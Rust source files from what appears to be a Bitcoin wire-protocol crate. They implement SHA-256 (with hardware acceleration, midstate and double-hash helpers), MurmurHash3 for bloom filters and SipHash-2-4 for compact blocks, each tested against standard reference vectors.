        state0 = _mm_blend_epi16(tmp, state1, 0xF0); // DCBA
        state1 = _mm_alignr_epi8(state1, tmp, 8); // HGFE
        _mm_storeu_si128(state.as_mut_ptr() as *mut __m128i, state0);
        _mm_storeu_si128(state.as_mut_ptr().add(4) as *mut __m128i, state1);
    }
}

/// Compresses `data` (length must be a multiple of 64) into `state`,
/// picking the fastest implementation the CPU supports.
#[inline]
fn compress_blocks(state: &mut [u32; 8], data: &[u8]) {
    debug_assert!(data.len() % 64 == 0);
    #[cfg(target_arch = "x86_64")]
    if ni::available() {
        // SAFETY: feature presence just checked.
        unsafe { ni::compress_blocks(state, data) };
        return;
    }
    soft::compress_blocks(state, data);
}

#[inline]
fn digest_bytes(state: &[u32; 8]) -> [u8; DIGEST_LEN] {
    let mut out = [0u8; DIGEST_LEN];
    for (i, word) in state.iter().enumerate() {
        out[i * 4..i * 4 + 4].copy_from_slice(&word.to_be_bytes());
    }
    out
}

/// Pads a sub-block tail (`tail.len() < 64`) of a `total_len`-byte message
/// and runs the final one or two compressions.
fn finish(mut state: [u32; 8], total_len: u64, tail: &[u8]) -> [u8; DIGEST_LEN] {
    debug_assert!(tail.len() < 64);
    let mut buf = [0u8; 128];
    buf[..tail.len()].copy_from_slice(tail);
    buf[tail.len()] = 0x80;
    let blocks = if tail.len() < 56 { 64 } else { 128 };
    buf[blocks - 8..blocks].copy_from_slice(&total_len.wrapping_mul(8).to_be_bytes());
    compress_blocks(&mut state, &buf[..blocks]);
    digest_bytes(&state)
}

/// SHA-256 of a 32-byte digest: the second pass of every double hash. The
/// padded message is exactly one block, so this is a single compression.
#[inline]
fn sha256_digest32(digest: &[u8; DIGEST_LEN]) -> [u8; DIGEST_LEN] {
    let mut block = [0u8; 64];
    block[..32].copy_from_slice(digest);
    block[32] = 0x80;
    block[62] = 0x01; // 256 = 0x0100 bits, big-endian in bytes 56..64
    let mut state = H0;
    compress_blocks(&mut state, &block);
    digest_bytes(&state)
}

/// SHA-256 state captured after a block-aligned prefix, reusable across
/// many messages that share that prefix.
///
/// The miner's case: an 80-byte header is one 64-byte block plus a 16-byte
/// tail containing the nonce. Capturing the midstate of the first block once
/// reduces each nonce attempt from three compressions to two (one padded
/// tail block + one second-pass block).
///
/// # Examples
///
/// ```
/// use btc_wire::crypto::sha256::{sha256d, Midstate};
///
/// let header = [7u8; 80];
/// let mid = Midstate::of(&header[..64]);
/// assert_eq!(mid.sha256d_tail(&header[64..]), sha256d(&header));
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Midstate {
    state: [u32; 8],
    /// Bytes absorbed so far (always a multiple of 64).
    bytes: u64,
}

impl Default for Midstate {
    fn default() -> Self {
        Self::new()
    }
}

impl Midstate {
    /// The initial (empty-prefix) midstate.
    pub fn new() -> Self {
        Midstate { state: H0, bytes: 0 }
    }

    /// Captures the state after absorbing `prefix`.
    ///
    /// # Panics
    ///
    /// Panics if `prefix.len()` is not a multiple of 64 — a midstate is only
    /// defined on block boundaries.
    pub fn of(prefix: &[u8]) -> Self {
        let mut m = Midstate::new();
        m.absorb(prefix);
        m
    }

    /// Absorbs further whole blocks.
    ///
    /// # Panics
    ///
    /// Panics if `blocks.len()` is not a multiple of 64.
    pub fn absorb(&mut self, blocks: &[u8]) {
        // lint:allow(panic-path): documented alignment precondition; callers pass compile-time-sized prefixes, never peer bytes
        assert!(
            blocks.len() % 64 == 0,
            "midstate prefix must be block-aligned (got {} bytes)",
            blocks.len()
        );
        compress_blocks(&mut self.state, blocks);
        self.bytes += blocks.len() as u64;
    }

    /// SHA-256 of `prefix ∥ tail` without re-hashing the prefix.
    pub fn sha256_tail(&self, tail: &[u8]) -> [u8; DIGEST_LEN] {
        let mut state = self.state;
        let whole = tail.len() - tail.len() % 64;
        compress_blocks(&mut state, &tail[..whole]);
        finish(state, self.bytes + tail.len() as u64, &tail[whole..])
    }

    /// Double SHA-256 of `prefix ∥ tail` without re-hashing the prefix.
    pub fn sha256d_tail(&self, tail: &[u8]) -> [u8; DIGEST_LEN] {
        sha256_digest32(&self.sha256_tail(tail))
    }
}

/// Incremental SHA-256 hasher.
///
/// # Examples
///
/// ```
/// use btc_wire::crypto::sha256::Sha256;
///
/// let mut h = Sha256::new();
/// h.update(b"abc");
/// assert_eq!(
///     h.finalize()[..4],
///     [0xba, 0x78, 0x16, 0xbf],
/// );
/// ```
#[derive(Clone, Debug)]
pub struct Sha256 {
    state: [u32; 8],
    /// Total message length in bytes.
    len: u64,
    buf: [u8; 64],
    buf_len: usize,
}

impl Default for Sha256 {
    fn default() -> Self {
        Self::new()
    }
}

impl Sha256 {
    /// Creates a hasher in the initial state.
    pub fn new() -> Self {
        Sha256 {
            state: H0,
            len: 0,
            buf: [0u8; 64],
            buf_len: 0,
        }
    }

    /// Absorbs `data` into the hash state.
    pub fn update(&mut self, data: &[u8]) {
        self.len = self.len.wrapping_add(data.len() as u64);
        let mut data = data;
        if self.buf_len > 0 {
            let want = 64 - self.buf_len;
            let take = want.min(data.len());
            self.buf[self.buf_len..self.buf_len + take].copy_from_slice(&data[..take]);
            self.buf_len += take;
            data = &data[take..];
            if self.buf_len == 64 {
                let block = self.buf;
                compress_blocks(&mut self.state, &block);
                self.buf_len = 0;
            }
        }
        // Aligned middle: compress straight from the input, no copying.
        let whole = data.len() - data.len() % 64;
        compress_blocks(&mut self.state, &data[..whole]);
        data = &data[whole..];
        if !data.is_empty() {
            self.buf[..data.len()].copy_from_slice(data);
            self.buf_len = data.len();
        }
    }

    /// Finishes the hash and returns the 32-byte digest.
    pub fn finalize(self) -> [u8; DIGEST_LEN] {
        finish(self.state, self.len, &self.buf[..self.buf_len])
    }
}

/// One-shot SHA-256.
///
/// # Examples
///
/// ```
/// let d = btc_wire::crypto::sha256::sha256(b"");
/// assert_eq!(d[0], 0xe3);
/// ```
pub fn sha256(data: &[u8]) -> [u8; DIGEST_LEN] {
    let mut state = H0;
    let whole = data.len() - data.len() % 64;
    compress_blocks(&mut state, &data[..whole]);
    finish(state, data.len() as u64, &data[whole..])
}

/// Double SHA-256, Bitcoin's workhorse hash (`SHA256(SHA256(x))`).
///
/// Both passes stay on the stack: the second pass is a single compression
/// of the padded 32-byte first-pass digest.
///
/// # Examples
///
/// ```
/// let d = btc_wire::crypto::sha256::sha256d(b"hello");
/// assert_eq!(d.len(), 32);
/// ```
pub fn sha256d(data: &[u8]) -> [u8; DIGEST_LEN] {
    sha256_digest32(&sha256(data))
}

/// Double SHA-256 written into a caller-provided buffer — the
/// allocation-free path for callers that keep digests in place.
pub fn sha256d_into(data: &[u8], out: &mut [u8; DIGEST_LEN]) {
    *out = sha256d(data);
}

/// Double SHA-256 of two concatenated 32-byte nodes: the merkle-tree step.
///
/// The concatenation fills exactly one block, so the first pass is that
/// block plus the constant [`PAD64`] padding block, and the second pass is
/// a single compression — three compressions total, no buffering.
pub fn sha256d_pair(left: &[u8; 32], right: &[u8; 32]) -> [u8; DIGEST_LEN] {
    let mut block = [0u8; 64];
    block[..32].copy_from_slice(left);
    block[32..].copy_from_slice(right);
    let mut state = H0;
    compress_blocks(&mut state, &block);
    compress_blocks(&mut state, &PAD64);
    sha256_digest32(&digest_bytes(&state))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(digest: &[u8]) -> String {
        digest.iter().map(|b| format!("{b:02x}")).collect()
    }

    #[test]
    fn empty_vector() {
        assert_eq!(
            hex(&sha256(b"")),
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        );
    }

    #[test]
    fn abc_vector() {
        assert_eq!(
            hex(&sha256(b"abc")),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
    }

    #[test]
    fn two_block_vector() {
        assert_eq!(
            hex(&sha256(
                b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"
            )),
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1"
        );
    }

    #[test]
    fn million_a_vector() {
        let data = vec![b'a'; 1_000_000];
        assert_eq!(
            hex(&sha256(&data)),
            "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0"
        );
    }

    #[test]
    fn long_multiblock_vector() {
        // 896-bit NIST vector.
        let msg = b"abcdefghbcdefghicdefghijdefghijkefghijklfghijklmghijklmn\
hijklmnoijklmnopjklmnopqklmnopqrlmnopqrsmnopqrstnopqrstu";
        assert_eq!(
            hex(&sha256(msg)),
            "cf5b16a778af8380036ce59e7b0492370b249b11e8f07a51afac45037afee9d1"
        );
    }

    #[test]
    fn incremental_matches_oneshot() {
        let data: Vec<u8> = (0..1000u32).map(|i| (i % 251) as u8).collect();
        for split in [0usize, 1, 13, 63, 64, 65, 500, 999, 1000] {
            let mut h = Sha256::new();
            h.update(&data[..split]);
            h.update(&data[split..]);
            assert_eq!(h.finalize(), sha256(&data), "split at {split}");
        }
    }

    #[test]
    fn byte_at_a_time_matches_oneshot() {
        let data: Vec<u8> = (0..300u32).map(|i| (i * 7 % 256) as u8).collect();
        let mut h = Sha256::new();
        for b in &data {
            h.update(std::slice::from_ref(b));
        }
        assert_eq!(h.finalize(), sha256(&data));
    }

    #[test]
    fn sha256d_hello() {
        // Bitcoin-style double hash of "hello".
        assert_eq!(
            hex(&sha256d(b"hello")),
            "9595c9df90075148eb06860365df33584b75bff782a510c6cd4883a419833d50"
        );
    }

    #[test]
    fn genesis_block_header_hash() {
        // The Bitcoin mainnet genesis block header hashes (sha256d, reversed)
        // to 000000000019d6689c085ae165831e934ff763ae46a2a6c172b3f1b60a8ce26f.
        let header = [
            0x01, 0x00, 0x00, 0x00, // version 1
            0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
            0, 0, 0, // prev
            0x3b, 0xa3, 0xed, 0xfd, 0x7a, 0x7b, 0x12, 0xb2, 0x7a, 0xc7, 0x2c, 0x3e, 0x67, 0x76,
            0x8f, 0x61, 0x7f, 0xc8, 0x1b, 0xc3, 0x88, 0x8a, 0x51, 0x32, 0x3a, 0x9f, 0xb8, 0xaa,
            0x4b, 0x1e, 0x5e, 0x4a, // merkle
            0x29, 0xab, 0x5f, 0x49, // time
            0xff, 0xff, 0x00, 0x1d, // bits
            0x1d, 0xac, 0x2b, 0x7c, // nonce
        ];
        let mut d = sha256d(&header);
        d.reverse();
        assert_eq!(
            hex(&d),
            "000000000019d6689c085ae165831e934ff763ae46a2a6c172b3f1b60a8ce26f"
        );
    }

    #[test]
    fn soft_path_matches_dispatch() {
        // On SHA-NI hardware this cross-checks the intrinsics sequence
        // against the portable rounds; elsewhere it is trivially true.
        let data: Vec<u8> = (0..4096u32).map(|i| (i * 31 % 256) as u8).collect();
        for len in [0usize, 64, 128, 192, 1024, 4096] {
            let mut a = H0;
            let mut b = H0;
            compress_blocks(&mut a, &data[..len]);
            soft::compress_blocks(&mut b, &data[..len]);
            assert_eq!(a, b, "len {len}");
        }
    }

    #[test]
    fn midstate_matches_oneshot() {
        let data: Vec<u8> = (0..512u32).map(|i| (i * 13 % 256) as u8).collect();
        for prefix in [0usize, 64, 128, 256, 448] {
            let mid = Midstate::of(&data[..prefix]);
            for end in [prefix, prefix + 1, prefix + 16, data.len()] {
                assert_eq!(
                    mid.sha256_tail(&data[prefix..end]),
                    sha256(&data[..end]),
                    "prefix {prefix} end {end}"
                );
                assert_eq!(
                    mid.sha256d_tail(&data[prefix..end]),
                    sha256d(&data[..end]),
                    "d: prefix {prefix} end {end}"
                );
            }
        }
    }

    #[test]
    #[should_panic(expected = "block-aligned")]
    fn midstate_rejects_unaligned_prefix() {
        Midstate::of(&[0u8; 63]);
    }

    #[test]
    fn pair_matches_concatenated_sha256d() {
        let left = sha256(b"left");
        let right = sha256(b"right");
        let mut cat = [0u8; 64];
        cat[..32].copy_from_slice(&left);
        cat[32..].copy_from_slice(&right);
        assert_eq!(sha256d_pair(&left, &right), sha256d(&cat));
    }

    #[test]
    fn into_matches_oneshot() {
        let mut out = [0u8; DIGEST_LEN];
        sha256d_into(b"some payload", &mut out);
        assert_eq!(out, sha256d(b"some payload"));
    }

    #[test]
    fn streaming_across_block_boundaries_matches() {
        // Long-message agreement between the streaming struct, the one-shot,
        // and a maximally awkward update pattern.
        let data: Vec<u8> = (0..777u32).map(|i| (i * 3 % 256) as u8).collect();
        let mut h = Sha256::new();
        let mut off = 0usize;
        for chunk in [1usize, 62, 64, 65, 127, 129, 300, 129] {
            let end = (off + chunk).min(data.len());
            h.update(&data[off..end]);
            off = end;
        }
        h.update(&data[off..]);
        assert_eq!(h.finalize(), sha256(&data));
    }
}
