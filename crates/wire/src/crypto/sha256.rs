//! A from-scratch SHA-256 implementation (FIPS 180-4).
//!
//! The wire protocol needs SHA-256 in two places: the message-header checksum
//! (first four bytes of `sha256d`) and block/transaction identifiers. The
//! offline-crate policy for this workspace does not include a hashing crate,
//! so the primitive is implemented here and exhaustively tested against the
//! FIPS / NIST vectors.

/// Output size of SHA-256 in bytes.
pub const DIGEST_LEN: usize = 32;

const K: [u32; 64] = [
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2,
];

const H0: [u32; 8] = [
    0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19,
];

/// Incremental SHA-256 hasher.
///
/// # Examples
///
/// ```
/// use btc_wire::crypto::sha256::Sha256;
///
/// let mut h = Sha256::new();
/// h.update(b"abc");
/// assert_eq!(
///     h.finalize()[..4],
///     [0xba, 0x78, 0x16, 0xbf],
/// );
/// ```
#[derive(Clone, Debug)]
pub struct Sha256 {
    state: [u32; 8],
    /// Total message length in bytes.
    len: u64,
    buf: [u8; 64],
    buf_len: usize,
}

impl Default for Sha256 {
    fn default() -> Self {
        Self::new()
    }
}

impl Sha256 {
    /// Creates a hasher in the initial state.
    pub fn new() -> Self {
        Sha256 {
            state: H0,
            len: 0,
            buf: [0u8; 64],
            buf_len: 0,
        }
    }

    /// Absorbs `data` into the hash state.
    pub fn update(&mut self, data: &[u8]) {
        self.len = self.len.wrapping_add(data.len() as u64);
        let mut data = data;
        if self.buf_len > 0 {
            let want = 64 - self.buf_len;
            let take = want.min(data.len());
            self.buf[self.buf_len..self.buf_len + take].copy_from_slice(&data[..take]);
            self.buf_len += take;
            data = &data[take..];
            if self.buf_len == 64 {
                let block = self.buf;
                self.compress(&block);
                self.buf_len = 0;
            }
        }
        while data.len() >= 64 {
            let (block, rest) = data.split_at(64);
            let mut b = [0u8; 64];
            b.copy_from_slice(block);
            self.compress(&b);
            data = rest;
        }
        if !data.is_empty() {
            self.buf[..data.len()].copy_from_slice(data);
            self.buf_len = data.len();
        }
    }

    /// Finishes the hash and returns the 32-byte digest.
    pub fn finalize(mut self) -> [u8; DIGEST_LEN] {
        let bit_len = self.len.wrapping_mul(8);
        // Padding: 0x80, zeros, 8-byte big-endian bit length.
        self.update(&[0x80]);
        while self.buf_len != 56 {
            self.update(&[0x00]);
        }
        // Manual length append: bypass `update`'s length bookkeeping.
        self.buf[56..64].copy_from_slice(&bit_len.to_be_bytes());
        let block = self.buf;
        self.compress(&block);
        let mut out = [0u8; DIGEST_LEN];
        for (i, word) in self.state.iter().enumerate() {
            out[i * 4..i * 4 + 4].copy_from_slice(&word.to_be_bytes());
        }
        out
    }

    fn compress(&mut self, block: &[u8; 64]) {
        let mut w = [0u32; 64];
        for (i, chunk) in block.chunks_exact(4).enumerate() {
            w[i] = u32::from_be_bytes([chunk[0], chunk[1], chunk[2], chunk[3]]);
        }
        for i in 16..64 {
            let s0 = w[i - 15].rotate_right(7) ^ w[i - 15].rotate_right(18) ^ (w[i - 15] >> 3);
            let s1 = w[i - 2].rotate_right(17) ^ w[i - 2].rotate_right(19) ^ (w[i - 2] >> 10);
            w[i] = w[i - 16]
                .wrapping_add(s0)
                .wrapping_add(w[i - 7])
                .wrapping_add(s1);
        }
        let [mut a, mut b, mut c, mut d, mut e, mut f, mut g, mut h] = self.state;
        for i in 0..64 {
            let s1 = e.rotate_right(6) ^ e.rotate_right(11) ^ e.rotate_right(25);
            let ch = (e & f) ^ (!e & g);
            let t1 = h
                .wrapping_add(s1)
                .wrapping_add(ch)
                .wrapping_add(K[i])
                .wrapping_add(w[i]);
            let s0 = a.rotate_right(2) ^ a.rotate_right(13) ^ a.rotate_right(22);
            let maj = (a & b) ^ (a & c) ^ (b & c);
            let t2 = s0.wrapping_add(maj);
            h = g;
            g = f;
            f = e;
            e = d.wrapping_add(t1);
            d = c;
            c = b;
            b = a;
            a = t1.wrapping_add(t2);
        }
        self.state[0] = self.state[0].wrapping_add(a);
        self.state[1] = self.state[1].wrapping_add(b);
        self.state[2] = self.state[2].wrapping_add(c);
        self.state[3] = self.state[3].wrapping_add(d);
        self.state[4] = self.state[4].wrapping_add(e);
        self.state[5] = self.state[5].wrapping_add(f);
        self.state[6] = self.state[6].wrapping_add(g);
        self.state[7] = self.state[7].wrapping_add(h);
    }
}

/// One-shot SHA-256.
///
/// # Examples
///
/// ```
/// let d = btc_wire::crypto::sha256::sha256(b"");
/// assert_eq!(d[0], 0xe3);
/// ```
pub fn sha256(data: &[u8]) -> [u8; DIGEST_LEN] {
    let mut h = Sha256::new();
    h.update(data);
    h.finalize()
}

/// Double SHA-256, Bitcoin's workhorse hash (`SHA256(SHA256(x))`).
///
/// # Examples
///
/// ```
/// let d = btc_wire::crypto::sha256::sha256d(b"hello");
/// assert_eq!(d.len(), 32);
/// ```
pub fn sha256d(data: &[u8]) -> [u8; DIGEST_LEN] {
    sha256(&sha256(data))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(digest: &[u8]) -> String {
        digest.iter().map(|b| format!("{b:02x}")).collect()
    }

    #[test]
    fn empty_vector() {
        assert_eq!(
            hex(&sha256(b"")),
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        );
    }

    #[test]
    fn abc_vector() {
        assert_eq!(
            hex(&sha256(b"abc")),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
    }

    #[test]
    fn two_block_vector() {
        assert_eq!(
            hex(&sha256(
                b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"
            )),
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1"
        );
    }

    #[test]
    fn million_a_vector() {
        let data = vec![b'a'; 1_000_000];
        assert_eq!(
            hex(&sha256(&data)),
            "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0"
        );
    }

    #[test]
    fn long_multiblock_vector() {
        // 896-bit NIST vector.
        let msg = b"abcdefghbcdefghicdefghijdefghijkefghijklfghijklmghijklmn\
hijklmnoijklmnopjklmnopqklmnopqrlmnopqrsmnopqrstnopqrstu";
        assert_eq!(
            hex(&sha256(msg)),
            "cf5b16a778af8380036ce59e7b0492370b249b11e8f07a51afac45037afee9d1"
        );
    }

    #[test]
    fn incremental_matches_oneshot() {
        let data: Vec<u8> = (0..1000u32).map(|i| (i % 251) as u8).collect();
        for split in [0usize, 1, 13, 63, 64, 65, 500, 999, 1000] {
            let mut h = Sha256::new();
            h.update(&data[..split]);
            h.update(&data[split..]);
            assert_eq!(h.finalize(), sha256(&data), "split at {split}");
        }
    }

    #[test]
    fn byte_at_a_time_matches_oneshot() {
        let data: Vec<u8> = (0..300u32).map(|i| (i * 7 % 256) as u8).collect();
        let mut h = Sha256::new();
        for b in &data {
            h.update(std::slice::from_ref(b));
        }
        assert_eq!(h.finalize(), sha256(&data));
    }

    #[test]
    fn sha256d_hello() {
        // Bitcoin-style double hash of "hello".
        assert_eq!(
            hex(&sha256d(b"hello")),
            "9595c9df90075148eb06860365df33584b75bff782a510c6cd4883a419833d50"
        );
    }

    #[test]
    fn genesis_block_header_hash() {
        // The Bitcoin mainnet genesis block header hashes (sha256d, reversed)
        // to 000000000019d6689c085ae165831e934ff763ae46a2a6c172b3f1b60a8ce26f.
        let header = [
            0x01, 0x00, 0x00, 0x00, // version 1
            0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
            0, 0, 0, // prev
            0x3b, 0xa3, 0xed, 0xfd, 0x7a, 0x7b, 0x12, 0xb2, 0x7a, 0xc7, 0x2c, 0x3e, 0x67, 0x76,
            0x8f, 0x61, 0x7f, 0xc8, 0x1b, 0xc3, 0x88, 0x8a, 0x51, 0x32, 0x3a, 0x9f, 0xb8, 0xaa,
            0x4b, 0x1e, 0x5e, 0x4a, // merkle
            0x29, 0xab, 0x5f, 0x49, // time
            0xff, 0xff, 0x00, 0x1d, // bits
            0x1d, 0xac, 0x2b, 0x7c, // nonce
        ];
        let mut d = sha256d(&header);
        d.reverse();
        assert_eq!(
            hex(&d),
            "000000000019d6689c085ae165831e934ff763ae46a2a6c172b3f1b60a8ce26f"
        );
    }
}
