//! MurmurHash3 (32-bit, x86 variant), used by BIP37 bloom filters
//! (`FILTERLOAD`/`FILTERADD`).

/// One-shot 32-bit MurmurHash3.
///
/// # Examples
///
/// ```
/// assert_eq!(btc_wire::crypto::murmur3::murmur3_32(0, b""), 0);
/// ```
pub fn murmur3_32(seed: u32, data: &[u8]) -> u32 {
    const C1: u32 = 0xcc9e2d51;
    const C2: u32 = 0x1b873593;
    let mut h = seed;
    let mut chunks = data.chunks_exact(4);
    for chunk in &mut chunks {
        // lint:allow(panic-path): chunks_exact(4) guarantees exactly 4 bytes; structurally infallible
        let mut k = u32::from_le_bytes(chunk.try_into().expect("4 bytes"));
        k = k.wrapping_mul(C1);
        k = k.rotate_left(15);
        k = k.wrapping_mul(C2);
        h ^= k;
        h = h.rotate_left(13);
        h = h.wrapping_mul(5).wrapping_add(0xe6546b64);
    }
    let rem = chunks.remainder();
    if !rem.is_empty() {
        let mut k: u32 = 0;
        for (i, b) in rem.iter().enumerate() {
            k |= (*b as u32) << (8 * i);
        }
        k = k.wrapping_mul(C1);
        k = k.rotate_left(15);
        k = k.wrapping_mul(C2);
        h ^= k;
    }
    h ^= data.len() as u32;
    h ^= h >> 16;
    h = h.wrapping_mul(0x85ebca6b);
    h ^= h >> 13;
    h = h.wrapping_mul(0xc2b2ae35);
    h ^= h >> 16;
    h
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reference_vectors() {
        // Well-known MurmurHash3 x86_32 vectors (SMHasher / Wikipedia).
        assert_eq!(murmur3_32(0, b""), 0x0000_0000);
        assert_eq!(murmur3_32(1, b""), 0x514e_28b7);
        assert_eq!(murmur3_32(0xffff_ffff, b""), 0x81f1_6f39);
        assert_eq!(murmur3_32(0, b"\0\0\0\0"), 0x2362_f9de);
        assert_eq!(murmur3_32(0x9747b28c, b"aaaa"), 0x5a97_808a);
        assert_eq!(murmur3_32(0x9747b28c, b"aaa"), 0x283e_0130);
        assert_eq!(murmur3_32(0x9747b28c, b"aa"), 0x5d21_1726);
        assert_eq!(murmur3_32(0x9747b28c, b"a"), 0x7fa0_9ea6);
        assert_eq!(
            murmur3_32(0x9747b28c, b"The quick brown fox jumps over the lazy dog"),
            0x2fa8_26cd
        );
    }

    #[test]
    fn bitcoin_core_bloom_vector() {
        // From Bitcoin Core's bloom_tests.cpp: murmur over the data inserted
        // into a bloom filter with tweak 0 uses seed = i*0xFBA4C795 + tweak.
        let seed0 = 0u32.wrapping_mul(0xFBA4C795);
        let seed1 = 1u32.wrapping_mul(0xFBA4C795);
        let item = [0x99u8, 0x10, 0x8a, 0xd8];
        assert_ne!(murmur3_32(seed0, &item), murmur3_32(seed1, &item));
    }
}
