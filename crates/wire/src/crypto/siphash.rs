//! SipHash-2-4 (64-bit output), used by BIP152 compact blocks to compute
//! transaction short IDs.

/// SipHash-2-4 keyed hasher state.
#[derive(Clone, Debug)]
pub struct SipHasher24 {
    v0: u64,
    v1: u64,
    v2: u64,
    v3: u64,
    /// Pending bytes not yet forming a full 8-byte word.
    tail: u64,
    ntail: usize,
    len: usize,
}

impl SipHasher24 {
    /// Creates a hasher keyed with `(k0, k1)`.
    pub fn new(k0: u64, k1: u64) -> Self {
        SipHasher24 {
            v0: k0 ^ 0x736f6d6570736575,
            v1: k1 ^ 0x646f72616e646f6d,
            v2: k0 ^ 0x6c7967656e657261,
            v3: k1 ^ 0x7465646279746573,
            tail: 0,
            ntail: 0,
            len: 0,
        }
    }

    #[inline]
    fn rounds(&mut self, n: usize) {
        for _ in 0..n {
            self.v0 = self.v0.wrapping_add(self.v1);
            self.v1 = self.v1.rotate_left(13);
            self.v1 ^= self.v0;
            self.v0 = self.v0.rotate_left(32);
            self.v2 = self.v2.wrapping_add(self.v3);
            self.v3 = self.v3.rotate_left(16);
            self.v3 ^= self.v2;
            self.v0 = self.v0.wrapping_add(self.v3);
            self.v3 = self.v3.rotate_left(21);
            self.v3 ^= self.v0;
            self.v2 = self.v2.wrapping_add(self.v1);
            self.v1 = self.v1.rotate_left(17);
            self.v1 ^= self.v2;
            self.v2 = self.v2.rotate_left(32);
        }
    }

    /// Absorbs `data`.
    pub fn update(&mut self, data: &[u8]) {
        self.len += data.len();
        let mut data = data;
        if self.ntail > 0 {
            let need = 8 - self.ntail;
            let take = need.min(data.len());
            for (i, b) in data[..take].iter().enumerate() {
                self.tail |= (*b as u64) << (8 * (self.ntail + i));
            }
            self.ntail += take;
            data = &data[take..];
            if self.ntail == 8 {
                let m = self.tail;
                self.v3 ^= m;
                self.rounds(2);
                self.v0 ^= m;
                self.tail = 0;
                self.ntail = 0;
            }
        }
        while data.len() >= 8 {
            let m = u64::from_le_bytes(data[..8].try_into().expect("8 bytes"));
            self.v3 ^= m;
            self.rounds(2);
            self.v0 ^= m;
            data = &data[8..];
        }
        for (i, b) in data.iter().enumerate() {
            self.tail |= (*b as u64) << (8 * i);
        }
        self.ntail = data.len();
    }

    /// Finishes and returns the 64-bit tag.
    pub fn finish(mut self) -> u64 {
        let b: u64 = ((self.len as u64 & 0xff) << 56) | self.tail;
        self.v3 ^= b;
        self.rounds(2);
        self.v0 ^= b;
        self.v2 ^= 0xff;
        self.rounds(4);
        self.v0 ^ self.v1 ^ self.v2 ^ self.v3
    }
}

/// One-shot SipHash-2-4.
///
/// # Examples
///
/// ```
/// let tag = btc_wire::crypto::siphash::siphash24(0, 0, b"");
/// assert_eq!(tag, 0x1e924b9d737700d7);
/// ```
pub fn siphash24(k0: u64, k1: u64, data: &[u8]) -> u64 {
    let mut h = SipHasher24::new(k0, k1);
    h.update(data);
    h.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    // Reference vectors from the SipHash paper (key 000102...0f, message
    // 00, 01, 02, ... of increasing length).
    const VECTORS: [u64; 16] = [
        0x726fdb47dd0e0e31,
        0x74f839c593dc67fd,
        0x0d6c8009d9a94f5a,
        0x85676696d7fb7e2d,
        0xcf2794e0277187b7,
        0x18765564cd99a68d,
        0xcbc9466e58fee3ce,
        0xab0200f58b01d137,
        0x93f5f5799a932462,
        0x9e0082df0ba9e4b0,
        0x7a5dbbc594ddb9f3,
        0xf4b32f46226bada7,
        0x751e8fbc860ee5fb,
        0x14ea5627c0843d90,
        0xf723ca908e7af2ee,
        0xa129ca6149be45e5,
    ];

    fn key() -> (u64, u64) {
        let k: Vec<u8> = (0..16u8).collect();
        (
            u64::from_le_bytes(k[..8].try_into().unwrap()),
            u64::from_le_bytes(k[8..].try_into().unwrap()),
        )
    }

    #[test]
    fn paper_vectors() {
        let (k0, k1) = key();
        for (len, expect) in VECTORS.iter().enumerate() {
            let msg: Vec<u8> = (0..len as u8).collect();
            assert_eq!(siphash24(k0, k1, &msg), *expect, "len {len}");
        }
    }

    #[test]
    fn incremental_matches_oneshot() {
        let (k0, k1) = key();
        let data: Vec<u8> = (0..100u8).collect();
        for split in [0usize, 1, 7, 8, 9, 50, 99, 100] {
            let mut h = SipHasher24::new(k0, k1);
            h.update(&data[..split]);
            h.update(&data[split..]);
            assert_eq!(h.finish(), siphash24(k0, k1, &data), "split {split}");
        }
    }

    #[test]
    fn distinct_keys_distinct_tags() {
        assert_ne!(siphash24(1, 2, b"block"), siphash24(2, 1, b"block"));
    }
}
