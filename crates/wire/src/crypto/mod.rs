//! Cryptographic primitives implemented from scratch for the wire protocol.
//!
//! - [`sha256`] — SHA-256 and the Bitcoin double hash `sha256d`
//!   (message checksums, txids, block hashes, merkle trees).
